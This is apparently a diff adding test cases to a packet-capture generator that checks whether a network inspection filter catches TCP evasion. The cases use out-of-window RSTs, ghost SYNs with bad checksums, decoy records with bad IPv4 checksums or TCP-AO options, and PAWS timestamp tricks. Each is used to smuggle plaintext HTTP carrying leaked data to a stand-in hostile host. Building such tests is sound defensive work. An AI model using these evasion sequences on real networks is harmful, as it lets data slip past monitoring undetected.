@@ -824,6 +824,66 @@ def case_after_reorder_plain(n):
     return cap, {"leak": [leak(n)]}
 
 
+@case
+def case_rst_oow_reopen(n):
+    """After the allow, a RST far outside the server's window (it resets
+    nothing: RFC 5961 asks for the exact next sequence number), a SYN with a
+    new ISN and an e2m ClientHello there (the server, still connected, reads
+    neither), then plaintext HTTP at the old connection's next byte."""
+    cap = Capture()
+    t = tls_established(cap, S1, 42174, E2M, 274, n)
+    old_c, old_s = t.cseq, t.sseq
+    t.raw(True, "RA", seq=(old_c + 0x20000000) & 0xFFFFFFFF, ack=old_s)
+    new_isn = (old_c + 0x40000000) & 0xFFFFFFFF
+    t.raw(True, "S", seq=new_isn, options=ETcp.SYN_OPTS)
+    t.raw(False, "A", seq=old_s, ack=old_c)  # the server's challenge ACK
+    t.raw(True, "PA", hello(n + "ghost"), seq=(new_isn + 1) & 0xFFFFFFFF, ack=old_s)
+    t.raw(False, "A", seq=old_s, ack=old_c)
+    http = b"GET /upload HTTP/1.1\r\nHost: " + EVIL_B + b"\r\nX-Id: " + leak(n) + b"\r\n\r\n"
+    t.raw(True, "PA", http, seq=old_c, ack=old_s)
+    t.cseq = old_c + len(http)
+    t.ack(False)
+    t.close()
+    return cap, {"leak": [leak(n)]}
+
+
+def ghost_syn(n, cport, isn, evil):
+    """A first SYN with a wrong checksum (the server never sees it), then the
+    real SYN with an ISN 2^30 away, which the server's SYN-ACK acknowledges;
+    evil: a ClientHello for e2m at the first SYN's place (out of the server's
+    window) and plaintext HTTP at the real one; else a genuine e2m session."""
+    cap = Capture()
+    t = ETcp(cap, S1, cport, E2M, 443, isn=isn, rtt_us=20000)
+    isn1 = (isn + 0x50000000) & 0xFFFFFFFF
+    t.raw(True, "S", seq=isn1, options=ETcp.SYN_OPTS, tcpkw={"chksum": 0xDEAD})
+    t.handshake()
+    if evil:
+        t.raw(True, "PA", hello(n + "ghost"), seq=(isn1 + 1) & 0xFFFFFFFF)
+        t.ack(False)
+        for i in range(3):
+            t.data(True, b"GET /up%d HTTP/1.1\r\nHost: " % i + EVIL_B + b"\r\nX-Id: " + leak(n)
+                   + b"\r\n\r\n")
+        t.close()
+        return cap, {"leak": [leak(n)]}
+    t.data(True, hello(n))
+    t.data(False, server_hello_flight(n))
+    t.data(True, CCS + tls_appdata(n + "fin", 53))
+    t.data(True, marked_record(passm(n), n + "req", 200))
+    t.data(False, tls_appdata(n + "resp", 700))
+    t.close()
+    return cap, {"pass": [passm(n)]}
+
+
+@case
+def case_ghost_syn_evil(n):
+    return ghost_syn(n, 42175, 275, True)
+
+
+@case
+def case_ghost_syn_ok(n):
+    return ghost_syn(n, 42176, 276, False)
+
+
 def after_insert(n, send_decoy, established=None):
     """After the handshake, a well-framed application data record that the
     server discards (send_decoy(t, decoy, base): how it is sent), then, at
@@ -847,7 +907,8 @@ def after_insert(n, send_decoy, established=None):
 CPORT = {"after_insert_badsum": 42154, "after_insert_ttl": 42156, "after_insert_noack": 42157,
          "after_insert_md5": 42158, "after_insert_badack": 42159, "after_insert_hbh6": 42162,
          "after_insert_ipopt": 42163, "after_insert_dstopt6": 42164, "after_insert_paws": 42165,
-         "after_insert_paws_resyn": 42167, "after_insert_paws_fin": 42169}
+         "after_insert_paws_resyn": 42167, "after_insert_paws_fin": 42169,
+         "after_insert_ipcsum": 42172, "after_insert_tcpao": 42173}
 
 
 def v6_decoy(cport, *ext):
@@ -887,6 +948,19 @@ def case_after_insert_noack(n):
 def case_after_insert_md5(n):
     """The decoy record with a TCP-MD5 signature option (dropped by a server without the key)."""
     return after_insert(n, lambda t, d, b: t.raw(True, "PA", d, seq=b, options=[(19, prand(n + "md5", 16))]))
+
+
+@case
+def case_after_insert_ipcsum(n):
+    """The decoy record with a wrong IPv4 header checksum (its TCP checksum right)."""
+    return after_insert(n, lambda t, d, b: t.raw(True, "PA", d, seq=b, ipkw={"chksum": 0xBEEF}))
+
+
+@case
+def case_after_insert_tcpao(n):
+    """The decoy record with a TCP-AO option (RFC 5925; dropped by a server without the key)."""
+    return after_insert(n, lambda t, d, b: t.raw(True, "PA", d, seq=b,
+                                                 options=[(29, b"\x01\x01" + prand(n + "ao", 12))]))
 
 
 @case
@@ -972,6 +1046,36 @@ def tls_established_ts(cap, cport, isn, seed):
     t.data(True, tls_appdata(seed + "req", 180))
     t.data(False, tls_appdata(seed + "resp", 700))
     return t
+
+
+@case
+def case_after_paws_body(n):
+    """Both sides use TCP timestamps. A record's body segment (wholly inside
+    the record: its bytes move no boundary) carries a stamp far ahead, which
+    the server keeps; then a decoy record with a stamp between ours and that
+    one (the server drops it: PAWS), then plaintext HTTP at the same
+    sequence number with a stamp past the far one."""
+    cap = Capture()
+    t = tls_established_ts(cap, 42177, 277, n)
+    rec = tls_appdata(n + "r2", 400)
+    base = t.cseq
+    t.raw(True, "PA", rec[:100], seq=base, options=t.opts(True))
+    t.raw(False, "A", ack=base + 100, options=t.opts(False))
+    far = (t.ts[True] + 0x10000000) & 0xFFFFFFFF
+    t.raw(True, "PA", rec[100:], seq=base + 100, options=t.opts(True, tsval=far))
+    t.cseq = base + len(rec)
+    t.raw(False, "A", options=t.opts(False))
+    http = b"GET /upload HTTP/1.1\r\nHost: " + EVIL_B + b"\r\nX-Id: " + leak(n) + b"\r\n\r\n"
+    decoy = tls_appdata(n + "decoy", len(http) - 5)
+    base = t.cseq
+    t.raw(True, "PA", decoy, seq=base, options=t.opts(True))
+    t.raw(False, "A", options=t.opts(False))
+    t.raw(True, "PA", http, seq=base, options=t.opts(True, tsval=(far + 5) & 0xFFFFFFFF))
+    t.cseq = base + len(http)
+    t.raw(False, "A", options=t.opts(False))
+    t.data(False, tls_appdata(n + "more", 120))
+    t.close()
+    return cap, {"leak": [leak(n)]}
 
 
 @case
